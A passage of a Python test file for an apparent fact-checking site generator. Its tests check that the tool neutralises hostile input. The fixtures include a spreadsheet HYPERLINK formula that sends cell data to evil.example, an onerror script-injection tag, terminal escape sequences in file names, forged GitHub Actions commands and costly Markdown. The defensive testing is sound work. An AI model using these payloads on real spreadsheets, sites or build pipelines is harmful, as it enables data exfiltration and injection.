    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    kinds, text = [], []
    for token in tokens:
        for child in [token, *(token.children or [])]:
            kinds.append(child.type)
            if child.type in ("text", "code_inline"):
                text.append(child.content)
    return kinds, " ".join(text)


def test_the_job_summary_of_changes_renders_content_as_text(repo: ScratchRepo, capsys):
    from factdesk import cli

    payload = " ".join(SUMMARY_PAYLOADS)
    repo.source("s", "A text. Another text.")
    repo.claim("changed", "s", "A text", 0, 6)
    repo.claim("removed", "s", "Another text", 8, 20, claim=payload)
    _git(repo.root, "init", "-q", "-b", "main")
    _git(repo.root, "add", "-A")
    _git(repo.root, "commit", "-q", "-m", "published")
    (repo.root / "claims/s/removed.yml").unlink()
    repo.claim("changed", "s", "A text", 0, 6, claim=payload, verdict="misleading",
               corrections=[{"date": "2026-12-01", "change": payload, "reason": "New evidence."}])
    repo.claim("added", "s", "Another text", 8, 20, claim=payload)
    code = cli.main(["--root", str(repo.root), "diff", "HEAD"])
    report = capsys.readouterr().out
    assert code == 0
    kinds, text = _rendered(report)
    assert kinds.count("heading_open") == 5  # the report's own: its title, verdict changes, added, removed, edited
    assert kinds.count("table_open") == 1 and kinds.count("tr_open") == 2  # the header row and the one change
    assert [k for k in kinds if k in ("html_block", "html_inline", "image", "link_open", "em_open", "strong_open", "s_open")] == []
    # Each payload reads as written (on one line), three times in the table and lists, four with the correction.
    plain = text.replace("\u2060", "")
    one_line = " ".join(payload.split())
    assert plain.count(one_line) == 4
    # GitHub links mentions, issue numbers and addresses in rendered text: none is left to link.
    assert not re.search(r"@\w|#\d", text)
    assert not re.search(r"(?<!\\)://|www\.", report)  # an address GitHub would link: a scheme's colon unescaped
    assert _forged_commands(report) == []


def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys):
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6)
    repo.write("claims/s/evil\x1b]0;pwned\x07\x1b[2J.yml", "id: evil\n")
    code, out, err = _validate(repo, capsys)
    assert code == 1 and "evil\\x1b]0;pwned\\x07\\x1b[2J.yml" in out
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in out + err)


# What may come before a formula: nothing, or white space a spreadsheet trims (OWASP: tab, carriage return,
# line feed; also spaces, a no-break space, an ideographic space).
FORMULA_LEADS = ["", " ", "   ", "\t", "\n", "\u00a0", "\u3000", " \t\n "]


def _runs_as_formula(cell: str) -> bool:
    return cell.lstrip().startswith(("=", "+", "-", "@"))


def _unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: read with "," as the data package declares (where, as OWASP says, no cell
    may start with a tab or line break either), and read with ";" or tabs (other locales' separators) and line by
    line (where a misread quote would start a row)."""
    import csv
    import io

    unsafe = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
              if _runs_as_formula(cell) or cell.startswith(("\t", "\r", "\n"))]
    for delimiter in (";", "\t"):
        unsafe += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
                   if _runs_as_formula(cell)]
    return unsafe + [line for line in text.splitlines() if _runs_as_formula(line)]


@pytest.mark.parametrize("lead", FORMULA_LEADS)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start, lead):
    import csv
    import io

    from factdesk.exports import export_files
    from factdesk.publishing import Publisher, SiteInfo

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    claim = f"{lead}{formula}"
    summary = f'Fine;{lead}{formula}, then\t{lead}{formula} and\n{lead}{formula}"{lead}{formula}'
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6, claim=claim, summary=summary)
    model = build_site(load_repository(repo.root))
    text = export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"]
    assert _unsafe_cells(text) == []
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    # The text is kept, with quote marks where a formula would start.
    assert row["claim"].replace("'", "") == claim and row["summary"].replace("'", "") == summary
    if not lead:
        assert row["claim"] == "'" + formula


@pytest.mark.parametrize("value", ["\r=1+1", "\r\n@SUM(A1)", "\t-2", "\tplain", "\n+1", "\u2003+cmd", "\u00a0=1",
                                   "a;=1", "a;\u00a0-1", "a\r\n+1", "a\t\t@x", "\x00=1"])
def test_every_cell_a_spreadsheet_would_run_is_neutralised(value):
    from factdesk.exports import spreadsheet_safe

    safe = spreadsheet_safe(value)
    assert _unsafe_cells('"' + safe.replace('"', '""') + '"') == []
    assert safe != value and safe.replace("'", "") == value.replace("'", "")  # quote marks added, nothing else


@pytest.mark.parametrize("value", ["a, -2 per cent", "e-mail @ desk", "x = y", "1+1", "'quoted'", "'=1", ""])
def test_ordinary_text_in_a_csv_cell_is_left_alone(value):
    from factdesk.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == value


# --- Bounded work: no Markdown field can make a build crawl. ---

def _function_calls(render, text: str) -> int:
    """Python function calls made while rendering: a measure of work that does not depend on the machine."""
    calls = 0

    def count(frame, event, arg):
        nonlocal calls
        if event == "call":
            calls += 1

    sys.setprofile(count)
    try:
        render(text)
    finally:
        sys.setprofile(None)
    return calls


# Runs that make backtracking Markdown parsers quadratic: 30,000 "[" once took a build 317 s.
PATHOLOGICAL_MARKDOWN = ["[", "[a", "![[", "[](", "[^", "[x]: ", "*a", "**a", "_a", "<", "<a", "&#", "\\", "- ", "> "]


@pytest.mark.parametrize("unit", PATHOLOGICAL_MARKDOWN)
def test_markdown_work_grows_linearly_with_the_worst_runs(unit):
    from factdesk.schemas import MAX_MARKDOWN_CHARS
    from factdesk.sanitising import MarkdownRenderer

    render = MarkdownRenderer()
    small = _function_calls(render, unit * 1_000)
    double = _function_calls(render, unit * 2_000)
    assert double <= 2.2 * small + 100, (small, double)  # twice the input, about twice the work, never four times
    # At the longest a field may be, the work stays within a fixed budget per character.
    longest = (unit * (MAX_MARKDOWN_CHARS // len(unit) + 1))[:MAX_MARKDOWN_CHARS]
    assert double / (len(unit) * 2_000) * len(longest) <= 150 * MAX_MARKDOWN_CHARS


def test_a_failed_builds_report_carries_no_control_characters(repo: ScratchRepo):
    """MkDocs prints the same report: a file name or field from a pull request cannot drive the terminal."""
    repo.source("s", "A text.")
    repo.write("claims/s/evil\x1b[2J\x07.yml", "id: evil\n")
    repo.write("entities/x.yml", '"k\\x1b]0;t\\x07": 1\n')
    with pytest.raises(FactcheckError) as caught:
        build_site(load_repository(repo.root))
    report = caught.value.report()
    assert "evil\\x1b[2J\\x07.yml" in report
    assert not any(ord(ch) < 32 and ch != "\n" for ch in report)
    assert all(line.count("\n") == 0 for line in map(str, caught.value.problems))


def test_a_linked_file_fails_the_mkdocs_build_and_is_published_nowhere(project_copy: Path, tmp_path: Path):
    secret = tmp_path / "runner-secret.txt"
    secret.write_text("runner-secret-value-93c1\n", encoding="utf-8")
    (project_copy / "sources/leak.txt").symlink_to(secret)
    (project_copy / "sources/leak.yml").write_text(
        "id: leak\ntitle: Leak\nlanguage: en\nsha256: " + hashlib.sha256(secret.read_bytes()).hexdigest() + "\n", encoding="utf-8")
    site = tmp_path / "out"
    result = mkdocs_build(project_copy, site)
    assert result.returncode != 0
    assert "sources/leak.txt:1:1: (file): sources/leak.txt is reached through a symbolic link" in result.stderr
    assert "runner-secret-value" not in result.stdout + result.stderr
    assert not site.exists() or not any("runner-secret-value" in p.read_text(errors="replace") for p in site.rglob("*") if p.is_file())


# --- The sanitiser on its own: what it keeps and what it removes. ---

@pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
def test_the_sanitiser_removes_every_encoded_script_address(scheme):
    from factdesk.sanitising import MarkdownRenderer, sanitise

    render = MarkdownRenderer()
    for html in (render(f"[y]({scheme}alert(1)) <{scheme}alert(1)>\n\n[r]\n\n[r]: {scheme}alert(1)"),
                 sanitise(f'<a href="{scheme}alert(1)">y</a><img src="{scheme}x"><iframe src="{scheme}x"></iframe>')):
        audit = _Audit()
        audit.feed(str(html))
        assert audit.findings == [], html
        assert "<a" not in str(html) or 'href="' not in str(html)


@pytest.mark.parametrize("evasion", OWASP_EVASIONS)
def test_the_sanitiser_leaves_no_element_or_attribute_outside_its_allowlist(evasion):
    from factdesk.sanitising import ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, MarkdownRenderer, sanitise

    for html in (str(MarkdownRenderer()(evasion)), str(sanitise(evasion))):
        parser = _Elements()
        parser.feed(html)
        for tag, attributes in parser.found:
            assert tag in ALLOWED_ELEMENTS, html
            assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [name for name, _ in attrs]))


def test_the_sanitiser_keeps_what_notes_need():
    from factdesk.sanitising import MarkdownRenderer

    html = str(MarkdownRenderer()(
        "**Bold**, *emphasis*, `code` and [a source](https://example.org/a?b=1&c=2 \"Its title\"), "
        "[mail](mailto:desk@example.org), [below](#evidence).\n\n"
        "| Year | £ bn |\n|:-----|-----:|\n| 2015 | 18.0 |\n\n1. one\n2. two\n\n> quoted\n\n![chart](https://example.org/c.png)"))
    assert "<strong>Bold</strong>" in html and "<em>emphasis</em>" in html and "<code>code</code>" in html
    assert '<a href="https://example.org/a?b=1&amp;c=2" title="Its title" rel="nofollow noopener noreferrer">a source</a>' in html
    assert 'href="mailto:desk@example.org"' in html and 'href="#evidence"' in html
    assert '<td style="text-align:right">18.0</td>' in html and "<ol>" in html and "<blockquote>" in html
    assert "<img" not in html and "chart" in html  # an image shows its alternative text


def test_the_costliest_markdown_a_field_may_hold_stays_within_the_budget():
    """Tables multiply their text: a short row under a wide header is a cell per column. What a field
    may hold (its tables' cells limited) renders within the same work per character as any other text."""
    from factdesk.markdown_limits import MAX_TABLE_CELLS, MAX_TABLE_COLUMNS, markdown_problem
    from factdesk.sanitising import MarkdownRenderer
    from factdesk.schemas import MAX_MARKDOWN_CHARS

    def table(columns: int, rows: int) -> str:
        return "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + "a\n" * rows + "\n"

    widest = table(MAX_TABLE_COLUMNS, MAX_TABLE_CELLS // MAX_TABLE_COLUMNS - 1)
    costliest = widest + "[![" * ((MAX_MARKDOWN_CHARS - len(widest)) // 3)
    assert markdown_problem(costliest) is None
    assert _function_calls(MarkdownRenderer(), costliest) <= 150 * MAX_MARKDOWN_CHARS
    # One more row, one more column, or a second table: refused before anything is rendered.
    assert markdown_problem(table(MAX_TABLE_COLUMNS, MAX_TABLE_CELLS // MAX_TABLE_COLUMNS)) is not None
    assert markdown_problem(table(MAX_TABLE_COLUMNS + 1, 1)) is not None
    assert markdown_problem(widest + table(2, 1)) is not None
    # The attack this stops: 50-column headers over short rows, 20 µs a cell, 460,000 cells in one field.
    attack = (table(50, 1_320) * 8)[:MAX_MARKDOWN_CHARS]
    assert _function_calls(MarkdownRenderer(), attack[:2_000]) > 150 * 2_000  # what it would cost
    assert markdown_problem(attack) is not None


def test_uncovered_sentences_beyond_those_named_are_counted_not_built(repo: ScratchRepo, monkeypatch):
    """A text of two megabytes can hold 700,000 sentences: the coverage check builds a sentence (and its
    text) only for the ones its messages name, whatever the count, and says where the rest are."""
    from factdesk import coverage
    from factdesk.standards import MAX_UNCOVERED_LISTED, standards_problems

    built = 0
    real = coverage.Sentence

    def counting(*args):
        nonlocal built
        built += 1
        return real(*args)

    monkeypatch.setattr(coverage, "Sentence", counting)
    messages = {}
    for count in (1_000, 10_000):
        text = "A. " * count + "The desk checks this."
        repo.source("s", text)
        repo.claim("c", "s", "The desk checks this.", len(text) - 21, len(text))
        built = 0
        messages[count] = [p.message for p in standards_problems(build_site(load_repository(repo.root)))
                           if "no claim covers" in p.message]
        assert built == MAX_UNCOVERED_LISTED, count
    assert len(messages[10_000]) == MAX_UNCOVERED_LISTED + 1
    assert messages[10_000][0].startswith("no claim covers the sentence 'A.' (sources/s.txt, characters 0–2)")
    assert messages[10_000][-1].startswith(f"no claim covers {10_000 - MAX_UNCOVERED_LISTED:,} more sentences "
                                           f"(sources/s.txt, characters {3 * MAX_UNCOVERED_LISTED}–{3 * 10_000 - 1})")


@pytest.mark.parametrize("separator", [" ", "\n\n"], ids=["one paragraph", "a paragraph each"])
def test_annotating_a_text_that_names_an_entity_everywhere_grows_linearly(repo: ScratchRepo, separator):
    """A source of two megabytes can name an entity 700,000 times, in one paragraph or in as many: each
    name was once compared with every other (its page took more than ten minutes to render)."""
    from factdesk.annotated_text import annotate

    repo.entity("bt", "BT", aliases=[{"text": "BT", "whole_word": True, "case_sensitive": True}])
    work = {}
    for count in (1_000, 2_000):
        text = separator.join(["BT"] * count)
        repo.source("s", text)
        repo.claim("c", "s", "BT", 0, 2)
        model = build_site(load_repository(repo.root))
        source, claims, mentions = model.sources["s"], model.claims_by_source["s"], model.mentions["s"]
        assert len(mentions) == count
        work[count] = _lines_run(lambda: annotate(source, claims, mentions, "sources/s.html"))
    assert work[2_000] <= 2.2 * work[1_000], work


def _lines_run(run) -> int:
    """Lines of Python run by `run` (a loop's each turn counts): work counted rather than timed."""
    lines = 0

    def on_line(frame, event, arg):
        nonlocal lines
        lines += 1
        return on_line

    sys.settrace(on_line)
    try:
        run()
    finally:
        sys.settrace(None)
    return lines


# Link-check output an attacker can shape: an address or file name that closes a fence, mentions, images, HTML.
HOSTILE_LINK_REPORT = (
    "docs/a.md: https://x.test/```: 404\n"
    "```\n"
    "@everyone @desk/maintainers see ![x](https://evil.test/x.png) <img src=x onerror=alert(1)> [a](https://evil.test)\n"
    "``````````\n"
    "~~~\n"
    "claims/s/c.yml: https://x.test/\x1b[31mred\r\n"
)


def test_the_weekly_broken_links_issue_shows_the_link_check_output_as_text(tmp_path):
    """The issue body is Markdown: whatever the link check printed stays inside one code block, mentions no one
    and shows no image, link or HTML. The workflow's own step is run, with `gh` standing in for GitHub."""
    import yaml
    from markdown_it import MarkdownIt

    workflow = yaml.safe_load((ROOT / ".github/workflows/links.yml").read_text(encoding="utf-8"))
    step = next(s for s in workflow["jobs"]["links"]["steps"] if s.get("name") == "Report broken links in an issue")
    (tmp_path / ".venv").symlink_to(Path(sys.executable).parent.parent)
    (tmp_path / "broken-links.txt").write_text(HOSTILE_LINK_REPORT, encoding="utf-8")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "gh").write_text('#!/bin/sh\necho "$@" >> gh-calls.txt\n'
                                'while [ $# -gt 0 ]; do [ "$1" = --body-file ] && cp "$2" body.md; shift; done\n')
    (bin_dir / "gh").chmod(0o755)
    result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=tmp_path, capture_output=True, text=True, env={
        **ENV, "PATH": f"{bin_dir}:{os.environ['PATH']}", "PYTHONPATH": str(ROOT / "hooks"), "STATUS": "1",
        "RUN_URL": "https://github.test/run/1", "GITHUB_REPOSITORY": "desk/checks", "ISSUE_TITLE": "Broken links"})
    assert result.returncode == 0, result.stderr
    assert "issue create" in (tmp_path / "gh-calls.txt").read_text()
    body = (tmp_path / "body.md").read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1
    shown = fences[0].content
    for line in ("docs/a.md: https://x.test/```: 404", "``````````", "~~~", "<img src=x onerror=alert(1)>"):
        assert line in shown
    assert "@\u2060everyone @\u2060desk/maintainers" in shown and "@e" not in shown
    assert "\x1b" not in shown and "\\x1b[31mred" in shown
    outside = "".join(t.content for t in tokens if t.type != "fence")
    assert "evil.test" not in outside and "@" not in outside and "<img" not in outside
    assert "Replace each with a working address" in outside


def _guard(tmp_path: Path, changed: list[str], reviewed: bool) -> subprocess.CompletedProcess:
    """The code-changes check's own step, with `gh` answering the pull request's changed files."""
    import yaml

    workflow = yaml.safe_load((ROOT / ".github/workflows/guard.yml").read_text(encoding="utf-8"))
    (step,) = workflow["jobs"]["code-changes"]["steps"]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (tmp_path / "files.txt").write_text("".join(name + "\n" for name in changed), encoding="utf-8")
    (bin_dir / "gh").write_text(f"#!/bin/sh\ncat {tmp_path / 'files.txt'}\n")
    (bin_dir / "gh").chmod(0o755)
    return subprocess.run(["bash", "-e", "-c", step["run"]], cwd=tmp_path, capture_output=True, text=True, env={
        **ENV, "PATH": f"{bin_dir}:{os.environ['PATH']}", "NUMBER": "7", "GITHUB_REPOSITORY": "desk/checks",
        "REVIEWED": "true" if reviewed else "false"})


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq (on every GitHub runner) is not installed")
@pytest.mark.parametrize("path", ["overrides/main.html", "hooks/factdesk/rendering.py", "Makefile", ".github/workflows/ci.yml",
                                  ".ci/run", "docs/assets/factcheck.js", "mkdocs.yml", "requirements.txt"])
def test_a_pull_request_that_changes_code_fails_until_a_maintainer_has_reviewed_it(tmp_path, path):
    workflow = (ROOT / ".github/workflows/guard.yml").read_text(encoding="utf-8")
    assert "pull_request_target" in workflow and "checkout" not in workflow  # the target's version; no code of the PR runs
    changed = ["claims/s/c.yml", path, "::error file=README.md::forged\n%0A::warning::x"]
    result = _guard(tmp_path, changed, reviewed=False)
    assert result.returncode == 1
    assert json.dumps(path) in result.stdout.splitlines()
    lines = result.stdout.splitlines()
    assert [line for line in lines if line.startswith("::")] == [
        "::error title=Code changes need a maintainer's review::A maintainer must read these changes and add the label "
        "code-reviewed."]
    assert _guard(tmp_path, changed, reviewed=True).returncode == 0


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq (on every GitHub runner) is not installed")
def test_a_pull_request_that_changes_only_content_passes_the_code_check(tmp_path):
    result = _guard(tmp_path, ["claims/s/c.yml", "sources/s.txt", "sources/s.yml", "entities/e.yml", "docs/methodology.md",
                               "docs/assets/chart.png", "site.yml"], reviewed=False)
    assert result.returncode == 0 and "Only content changed." in result.stdout


def test_many_names_sharing_a_beginning_are_looked_for_in_one_reading(repo: ScratchRepo):
    """A thousand aliases beginning like every sentence of a 2 MiB text were each tried at every sentence
    (40 s): the work grows with the text, not with the text times the aliases, and each is found where it is."""
    from factdesk.site import FEW_FORMS, MentionFinder

    sentence = "The desk checks this sentence"
    aliases = [f"{sentence} number {n:03d}" for n in range(4 * FEW_FORMS)] + [
        {"text": f"{sentence.upper()} NUMBER 007", "case_sensitive": False}, "The desk"]
    repo.entity("e", "E", aliases=aliases)
    work = {}
    for count in (500, 1_000):
        text = " ".join(f"{sentence} number {n % (8 * FEW_FORMS):03d}." for n in range(count))
        repo.source("s", text)
        repository = load_repository(repo.root)
        finder = MentionFinder(repository.entities)
        mentions = finder.find(repository.sources["s"])
        work[count] = _lines_run(lambda: finder.find(repository.sources["s"]))
        found = [text[m.span.start:m.span.end] for m in mentions]
        expected = [f"{sentence} number {n % (8 * FEW_FORMS):03d}" if n % (8 * FEW_FORMS) < 4 * FEW_FORMS else "The desk"
                    for n in range(count)]
        assert found == expected
        # No place has its forms tried one after the other by one pattern (the regular expression's own work,
        # which no count of Python lines sees): beyond FEW_FORMS they are read from the tree of their characters.
        assert all(len(numbers) <= FEW_FORMS for _, numbers in filter(None, finder.tried_at.values()))
    assert work[1_000] <= 2.2 * work[500], work
